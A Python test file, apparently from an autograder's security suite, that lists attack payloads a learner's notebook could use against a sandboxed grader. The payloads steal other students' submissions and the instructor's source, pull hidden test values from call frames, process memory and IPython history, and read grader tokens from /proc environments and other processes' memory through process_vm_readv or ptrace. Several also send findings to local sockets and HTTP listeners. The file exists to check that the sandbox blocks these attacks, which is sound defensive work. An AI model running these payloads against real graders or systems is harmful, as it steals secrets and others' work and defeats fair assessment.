"""What is not for a learner's eyes: files, hidden tests, memory and environments of others; and ways to send it off."""

from tests.hostile.attacks.attack import Attack, Without

CELLS = "autograder/notebooks/_cells.py"
WRONG = "def mean(numbers): return 0"
NEIGHBOURS = """
from glob import glob
for place in (f"{ROOM}/submitted/ada/*/*", "../../ada/*/*", "../../*/*/*", "/submission/*/*/*"):
    for file in glob(place):
        print(open(file).read())
"""
DESCRIPTORS = """
for number in range(3, 256):
    for way in ("", "..", "../..", "../../.."):
        try:
            place = f"{way}/submitted/ada/ps1/siege.ipynb" if way else "siege.ipynb"
            place = os.open(place, os.O_RDONLY, dir_fd=number)
            print("GOT", number, os.read(place, 5_000_000).decode())
        except OSError: pass
try:
    os.chdir("/proc/self/cwd/../..")
    for parent, _, files in os.walk("."):
        for name in files: print(open(os.path.join(parent, name), errors="replace").read())
except OSError: pass
"""
CONSTANTS = """
def mean(numbers):
    for depth in range(1, 6):
        known = [each for each in sys._getframe(depth).f_code.co_consts if type(each) is int]
        if len(known) == 1: return known[0]
    return sum(known[-1:])
"""
HISTORY = """
import linecache
print(In, get_ipython().history_manager.input_hist_raw, linecache.cache)
"""
MEMORY = """
import gc
marked = "tangerine" + "-"
for thing in gc.get_objects():
    for part in thing.values() if isinstance(thing, dict) else [thing]:
        if isinstance(part, str) and marked in part: print("GOT", part[part.index(marked):][:30])
for line in open("/proc/self/maps"):
    first, last = (int(each, 16) for each in line.split()[0].split("-"))
    if " rw" in line and last - first < 1 << 27:
        with open("/proc/self/mem", "rb", 0) as memory:
            try:
                memory.seek(first)
                found = memory.read(last - first)
            except OSError: continue
        for at in range(3):
            where = found.find(marked.encode()) if at == 0 else found.find(marked.encode(), where + 1)
            if where >= 0 and found[where + 10:where + 12].isdigit(): print("GOT", found[where:where + 20])
"""
GLOBALS = """
kept = []
def twice(do, value):
    for thing in (do, getattr(do, "__call__", None), type(do)):
        try: kept.append(thing.__globals__["KEY"])
        except Exception: pass
    return 0
"""
ASKS = """
kept = []
def twice(do, value):
    line, number = do._line, do._number
    for name in ("NAME", "__class__", "__call__", "__dict__"):
        try:
            found = line.ask("attribute", number, name=name)
            kept.append(found._line.ask("attribute", found._number, name="__globals__")["KEY"])
        except Exception: pass
    return 0
"""
PRIVATE = """
kept = []
def twice(do, value):
    if hasattr(do, "_line"):
        try: kept.append(do._line.ask("attribute", do._number, name="_key"))
        except AttributeError: pass
    return 0
"""
REMEMBERS = """
asked = []
def mean(numbers):
    asked.append(list(numbers))
    return 0
"""
COMPLAINS = """
def mean(numbers):
    if 815 in numbers:
        global total
        def total(_): raise ValueError(f"GOT {list(numbers)}")
    return 0
"""
REDRAWS = """
def mean(numbers):
    if 815 in numbers: shown.update(f"GOT {list(numbers)}")
    return 0
"""
LATER = """
import threading, time
def mean(numbers):
    if 815 in numbers: threading.Thread(target=lambda: (time.sleep(0.3), print("GOT", list(numbers)))).start()
    return 0
"""
ENVIRONMENTS = """
for name in os.listdir("/proc"):
    if name.isdigit():
        try: print(name, open(f"/proc/{name}/environ").read())
        except OSError: pass
"""
OPENED = """
from glob import glob
for link in glob("/proc/[0-9]*/fd/*") + glob("/proc/[0-9]*/cwd") + glob("/proc/[0-9]*/root/" + ROOM):
    try: place = os.readlink(link) if "/root/" not in link else link
    except OSError: continue
    if ROOM in place and link.split("/")[2] != str(os.getpid()): print("GOT", place)
"""
PARENT = """
def stack_of(process):
    with open(f"/proc/{process}/maps") as maps:
        for line in maps:
            if "[stack]" in line: return [int(each, 16) for each in line.split()[0].split("-")]
"""
READS = (
    PARENT
    + """
import ctypes
libc, found = ctypes.CDLL(None, use_errno=True), 0
class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for process in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    try: first, last = stack_of(process)
    except (OSError, TypeError): continue
    held = ctypes.create_string_buffer(last - first)
    mine, theirs = Part(ctypes.addressof(held), last - first), Part(first, last - first)
    if libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        at = held.raw.find(b"GRADER_TOKEN=")
        print(process, held.raw[at:at + 40] if at >= 0 else "nothing")
"""
)
TRACES = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for process in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    if libc.ptrace(16, process, None, None) == 0:
        os.waitpid(process, 0x40000000)
        libc.ptrace(17, process, None, None)
        print("GOT into", process, open(f"/proc/{process}/comm").read())
"""
DATAGRAM = """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
    peer.sendto(NAME.encode(), ("127.0.0.1", PORT))
"""
ABSTRACT = """
with socket.socket(socket.AF_UNIX) as peer:
    peer.connect(f"\\0siege-{PORT}")
    peer.sendall(NAME.encode())
"""
MESSAGE = """
import urllib.request
urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{NAME}", timeout=1)
"""

ATTACKS = (
    Attack(
        "reads-the-source",
        "file theft",
        "the instructor's own notebook, hidden tests and all",
        WRONG,
        last="print(open(f'{ROOM}/source/ps1/siege.ipynb').read())",
    ),
    Attack(
        "reads-a-neighbour", "file theft", "what others handed in, by its place or from here", WRONG, last=NEIGHBOURS
    ),
    Attack("reads-the-seed", "file theft", "the class's keys", WRONG, last="print(open(f'{ROOM}/keys/seed').read())"),
    Attack("walks-up", "file theft", "a folder that was left open, or is above this one", WRONG, last=DESCRIPTORS),
    Attack(
        "callers-constants", "hidden tests", "the number to which the test compares, in the code that calls", CONSTANTS
    ),
    Attack("reads-history", "hidden tests", "the cells that ran before, as IPython keeps them", WRONG, last=HISTORY),
    Attack("reads-memory", "hidden tests", "the text of tests, anywhere in this process", WRONG, last=MEMORY),
    Attack(
        "reads-globals",
        "hidden tests",
        "what stands beside a function that a test hands over",
        GLOBALS,
        "twice",
        last="print(kept)",
    ),
    Attack(
        "asks-the-line",
        "hidden tests",
        "the same, asked of the judge in the words of the line",
        ASKS,
        "twice",
        last="print(kept)",
        proof=Without(CELLS, 'raise Refused("a test\'s values are not yours to take apart")', "return"),
    ),
    Attack(
        "asks-for-privates",
        "hidden tests",
        "a private name of an object of the test's",
        PRIVATE,
        "twice",
        last="print(kept)",
        proof=Without(CELLS, 'not str(details.get("name", "")).startswith("_")', "True"),
    ),
    Attack(
        "remembers-what-it-was-asked",
        "hidden tests",
        "the arguments of hidden calls, shown by a cell that runs later",
        REMEMBERS,
        last="if asked[1:]: print('GOT', asked[1:])",
    ),
    Attack(
        "complains-later",
        "hidden tests",
        "the same in the error of a public test that runs later",
        COMPLAINS,
        fair=False,
    ),
    Attack(
        "redraws-what-it-showed",
        "hidden tests",
        "the same in a cell that was shown before, and is redrawn",
        REDRAWS,
        first="from IPython.display import display\nshown = display('nothing yet', display_id=True)",
    ),
    Attack(
        "prints-later",
        "hidden tests",
        "the same, printed by a thread while a later cell runs",
        LATER,
        last="time.sleep(1)",
    ),
    Attack("reads-environments", "/proc", "the environment of who grades", WRONG, last=ENVIRONMENTS),
    Attack("reads-what-is-open", "/proc", "files and folders that other processes have open", WRONG, last=OPENED),
    Attack("reads-the-parent", "ptrace", "the memory of who grades, by process_vm_readv", WRONG, last=READS),
    Attack("traces", "ptrace", "any other process, to have it do anything", WRONG, last=TRACES),
    Attack(
        "calls-home",
        "network",
        "somebody outside who takes what was found",
        WRONG,
        last="socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(NAME.encode())",
    ),
    Attack(
        "sends-a-datagram", "network", "the same without a connection, as a look-up of a name is", WRONG, last=DATAGRAM
    ),
    Attack(
        "calls-by-name",
        "network",
        "a service of this machine that listens at an abstract address",
        WRONG,
        last=ABSTRACT,
    ),
    Attack("asks-the-web", "network", "a web server, by Python's own means", WRONG, last=MESSAGE),
)
